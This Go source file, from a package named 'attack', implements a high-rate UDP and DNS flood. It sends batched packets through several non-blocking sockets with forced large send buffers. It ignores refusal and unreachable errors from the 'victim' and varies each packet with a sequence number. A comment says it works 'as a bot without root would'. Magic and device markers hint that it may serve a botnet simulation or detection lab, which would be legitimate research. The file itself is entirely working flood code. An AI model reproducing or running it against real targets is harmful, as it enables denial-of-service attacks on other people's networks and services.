package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/masugata/masugata/internal/model"
)

// batch is how many packets one system call sends.
const batch = 64

// sockets is how many source ports a socket flood uses.
const sockets = 8

// mmsghdr is struct mmsghdr of <sys/socket.h>.
type mmsghdr struct {
	hdr unix.Msghdr
	len uint32
	_   [4]byte
}

// vector is a batch of packets in buffers of its own.
type vector struct {
	msgs [batch]mmsghdr
	iovs [batch]unix.Iovec
	bufs [batch][]byte
}

func (v *vector) init(size int, name *unix.RawSockaddrInet4) {
	for i := range v.msgs {
		v.bufs[i] = make([]byte, size)
		v.iovs[i].Base = &v.bufs[i][0]
		v.iovs[i].SetLen(size)
		v.msgs[i].hdr.Iov = &v.iovs[i]
		v.msgs[i].hdr.SetIovlen(1)
		if name != nil {
			v.msgs[i].hdr.Name = (*byte)(unsafe.Pointer(name))
			v.msgs[i].hdr.Namelen = unix.SizeofSockaddrInet4
		}
	}
}

// flush sends the first n packets. What the victim's side answers to former
// packets (refused, unreachable) and full queues only cost the packet at hand.
func (v *vector) flush(fd, n int) (int, error) {
	k, _, e := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&v.msgs[0])), uintptr(n), unix.MSG_DONTWAIT, 0, 0)
	switch e {
	case 0:
		return int(k), nil
	case unix.ECONNREFUSED, unix.EHOSTUNREACH, unix.ENETUNREACH, unix.EACCES, unix.EAGAIN, unix.ENOBUFS, unix.EINTR, unix.EPERM:
		return 0, nil
	}
	return 0, fmt.Errorf("sendmmsg: %w", e)
}

// socketFlood sends through ordinary UDP sockets, as a bot without root would.
type socketFlood struct {
	fds  []int
	next int
	dns  bool
	v    vector
	seq  uint32
}

func newSocketFlood(o Order) (*socketFlood, error) {
	f := &socketFlood{dns: o.Vector == model.VectorDNS}
	payload, port := udpPayload(o.Device), uint16(UDPPort)
	if f.dns {
		payload, port = dnsQuery(o.Device), 53
	}
	f.v.init(len(payload), nil)
	for i := range f.v.bufs {
		copy(f.v.bufs[i], payload)
	}
	for range sockets {
		fd, err := dialUDP(netip.AddrPortFrom(o.Target, port))
		if err != nil {
			f.close()
			return nil, err
		}
		f.fds = append(f.fds, fd)
	}
	return f, nil
}

func dialUDP(to netip.AddrPort) (int, error) {
	family := unix.AF_INET
	var sa unix.Sockaddr = &unix.SockaddrInet4{Port: int(to.Port()), Addr: first4(to.Addr())}
	if to.Addr().Is6() {
		family, sa = unix.AF_INET6, &unix.SockaddrInet6{Port: int(to.Port()), Addr: to.Addr().As16()}
	}
	fd, err := unix.Socket(family, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return -1, fmt.Errorf("socket: %w", err)
	}
	if err := errors.Join(unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUFFORCE, 4<<20), unix.Connect(fd, sa)); err != nil {
		unix.Close(fd)
		return -1, fmt.Errorf("udp socket to %s: %w", to, err)
	}
	return fd, nil
}

func first4(a netip.Addr) [4]byte {
	if a.Is4() {
		return a.As4()
	}
	return [4]byte{}
}

func (f *socketFlood) send(n int) (int, error) {
	sent := 0
	for n > 0 {
		k := min(n, batch)
		for i := range k {
			f.seq++
			f.stamp(f.v.bufs[i])
		}
		got, err := f.v.flush(f.fds[f.next], k)
		if err != nil {
			return sent, err
		}
		f.next = (f.next + 1) % len(f.fds)
		sent += got
		n -= k
	}
	return sent, nil
}

// stamp makes each packet differ from the one before.
func (f *socketFlood) stamp(b []byte) {
	if f.dns {
		binary.BigEndian.PutUint16(b, uint16(f.seq))
		const digits = "0123456789abcdef"
		for i := range 8 {
			b[dnsSerial+i] = digits[f.seq>>(28-4*i)&15]
		}
		return
	}
	binary.BigEndian.PutUint32(b[8:], f.seq)
}

func (f *socketFlood) close() {
	for _, fd := range f.fds {
		unix.Close(fd)
	}
}

func udpPayload(device uint8) []byte {
	b := make([]byte, 512)
	for i := range b {
		b[i] = byte(rand.Uint32())
	}
	copy(b, Magic)
	b[len(Magic)] = device
	return b
}

// dnsSerial is where the running number stands in the question's name.
const dnsSerial = 13 + len(DNSPrefix) + 2

// dnsQuery asks for the address of mgtx-M-NNNNNNNN.victim.example.
func dnsQuery(device uint8) []byte {
	label := fmt.Sprintf("%s%x-00000000", DNSPrefix, device)
	b := []byte{0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range []string{label, "victim", "example"} {
		b = append(append(b, byte(len(l))), l...)
	}
	return append(b, 0, 0, 1, 0, 1)
}
